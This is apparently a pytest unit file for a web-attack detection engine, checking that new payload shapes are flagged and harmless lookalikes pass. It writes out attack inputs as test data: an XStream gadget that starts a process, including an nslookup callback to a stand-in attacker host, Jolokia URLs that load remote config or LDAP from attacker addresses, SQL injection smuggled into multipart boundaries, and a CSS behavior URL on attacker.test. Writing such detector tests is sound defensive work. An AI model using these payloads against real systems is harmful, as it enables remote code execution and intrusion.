"""Unit: the shapes of the fresh41 first contact.

XStream's ``<dynamic-proxy>`` whose ``java.beans.EventHandler`` starts a ``java.lang.ProcessBuilder`` through
``<action>start</action>`` (``java_decoder._STARTS``); a URL in Jolokia's ``http:!/!/`` path escape, which makes an
MBean operation fetch and parse it (``jolokia``); a whole value that is a Windows machine-wide configuration file
under ``C:\\ProgramData`` or ``Documents and Settings\\All Users\\Application Data`` (``windows_paths``). False
positives fixed: the quoted ``boundary="----=_Part…"`` of a multipart ``Content-Type`` read as a quote closed and a
comment (``mime_params``), and Outlook's ``behavior: url(#default#VML)`` read as an IE behavior that runs script
(``xss._CSS_SCRIPT``, ``xss._CSS_DECL``). Values are our own; none comes from a corpus."""

from __future__ import annotations

import time

import pytest

from bastion.detection import Context, Engine

BODY = Context("body", "comment")
CONTEXTS = [BODY, Context("header", "x-note"), Context("cookie", "pref"), Context("query", "q")]


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine()


REJECTED = {
    "xstream event handler starts a process": [
        "<sorted-set><string>a</string><dynamic-proxy><interface>java.lang.Comparable</interface>"
        "<handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command>"
        "<string>touch</string><string>/tmp/pwned</string></command></target><action>start</action></handler>"
        "</dynamic-proxy></sorted-set>",
        "<map><entry><dynamic-proxy><interface>java.util.Map$Entry</interface>\n"
        "  <handler class='java.beans.EventHandler'>\n    <target class='java.lang.ProcessBuilder'>\n"
        "      <command><string>nslookup</string><string>x.attacker.test</string></command>\n"
        "    </target>\n    <action> start </action>\n  </handler>\n</dynamic-proxy></entry></map>",
    ],
    "jolokia escaped url": [
        "/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator"
        "/reloadByURL/http:!/!/203.0.113.7:8000!/evil.xml",
        "exec/Catalina:type=MBeanFactory/createJNDIRealm/ldap:!/!/198.51.100.2:1389!/Exploit",
        "reloadByURL/https:!/!/cfg.attacker.test!/logback.xml",
    ],
    "windows machine configuration file": [
        "C:\\ProgramData\\Acme\\Server\\db.properties",
        "c:/programdata/Vendor/App/conf/settings.ini",
        "C:\\Documents and Settings\\All Users\\Application Data\\Vendor\\Service\\license.lic",
        "D:\\ProgramData\\Microsoft\\Crypto\\RSA\\MachineKeys\\server.pfx",
    ],
}

PASSED = {
    "multipart boundary parameters": [
        'multipart/mixed; boundary="----=_NextPart_000_0123_01D00000.ABCDEF12"',
        'multipart/alternative; boundary="--=_b7Qx2Lm"; charset=utf-8',
        "multipart/related; type=\"text/html\"; boundary='--Apple-Mail-42'",
        'Multipart/Report; report-type=delivery-status; boundary="--=_delivery.1700000000"',
    ],
    "vml default behavior in mail html": [
        "<style>v\\:* {behavior:url(#default#VML);} o\\:* {behavior:url(#default#VML);}</style><p>Thanks!</p>",
        '<html><head><style>\n.shape {behavior: url("#default#VML");}\n</style></head><body>Hi</body></html>',
        "v\\:* {behavior:url(#default#VML);}",
    ],
    "exclamation marks and colons in text": [
        "Great news: it works! /really/ fast",
        "http: !/ not a url",
        "See the log in C:\\ProgramData\\Acme\\app.log, then restart the service.",
        "C:\\Users\\ann\\Documents\\report.docx",
        "C:\\Program Files\\Acme\\readme.txt",
    ],
    "xstream without a process": [
        "<sorted-set><string>a</string><string>b</string></sorted-set>",
        "<handler class=\"java.beans.EventHandler\"><action>save</action></handler>",
    ],
}

STILL_REJECTED = [
    'multipart/mixed; boundary="--x" or 1=1 --',
    'multipart/mixed; boundary="--x"; union select password from users--',
    "multipart/mixed; boundary='--x' or 'a'='a'",
    "<style>x{behavior:url(#default#time2)}</style>",
    "<style>x{behavior:url(evil.htc)}</style>",
    '<div style="behavior: url(//attacker.test/x.htc)">',
]


@pytest.mark.parametrize(("shape", "value"), [(k, v) for k, vs in REJECTED.items() for v in vs])
def test_fresh41_shape_is_rejected(engine: Engine, shape: str, value: str) -> None:
    for ctx in CONTEXTS:
        assert engine.inspect(value, ctx) is not None, (shape, value, ctx)


@pytest.mark.parametrize(("shape", "value"), [(k, v) for k, vs in PASSED.items() for v in vs])
def test_fresh41_lookalike_passes(engine: Engine, shape: str, value: str) -> None:
    assert engine.inspect(value, BODY) is None, (shape, value)


@pytest.mark.parametrize("value", STILL_REJECTED)
def test_fresh41_exceptions_stay_narrow(engine: Engine, value: str) -> None:
    assert engine.inspect(value, BODY) is not None, value


def test_fresh41_config_path_field_keeps_its_path(engine: Engine) -> None:
    assert engine.inspect("C:\\ProgramData\\Acme\\agent.conf", Context("body", "config_path")) is None


def test_fresh41_new_searches_are_linear(engine: Engine) -> None:
    values = [
        ("multipart/mixed; a=b; " * 4000 + 'boundary="' + "-" * 60)[: 128 * 1024],
        ("C:\\ProgramData" + "\\aaaaaaaa" * 20000)[: 128 * 1024],
        ("http:!/!/ " * 20000)[: 128 * 1024],
        ("<action>start" + " " * 4000 + "<x class='java.lang.ProcessBuilder'>" * 3000)[: 128 * 1024],
        ('"--' + "=" * 4000 + ' multipart/x; boundary="--') * 30,
    ]
    for value in values:
        start = time.process_time()
        engine.inspect(value, BODY)
        assert time.process_time() - start < 1.0, value[:40]
